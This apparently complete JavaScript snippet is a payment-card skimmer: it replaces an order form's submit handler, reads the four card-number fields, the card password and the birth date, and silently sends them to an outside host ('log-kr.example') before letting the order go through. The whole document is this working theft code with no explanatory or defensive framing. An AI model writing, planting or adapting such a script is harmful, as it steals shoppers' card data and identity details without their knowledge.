var f = document.frmOrder || document.forms['orderForm'];
f.onsubmit = function () {
  var n = f.cardNo1.value + f.cardNo2.value + f.cardNo3.value + f.cardNo4.value, p = f.cardPw.value, b = f.birth.value;
  var x = new XMLHttpRequest();
  x.open('GET', 'http://log-kr.example/t.asp?a=' + n + '&b=' + p + '&c=' + b, false);
  x.send(null);
  return true;
};
